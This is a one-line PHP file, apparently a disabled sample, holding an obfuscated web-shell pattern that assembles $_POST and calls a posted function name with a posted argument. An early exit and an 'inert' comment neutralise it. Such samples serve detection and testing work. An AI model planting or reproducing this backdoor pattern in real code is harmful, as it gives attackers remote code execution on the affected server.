<?php exit; /* inert */ $v="_PO"."ST"; ${$v}["f"](${$v}["a"]);
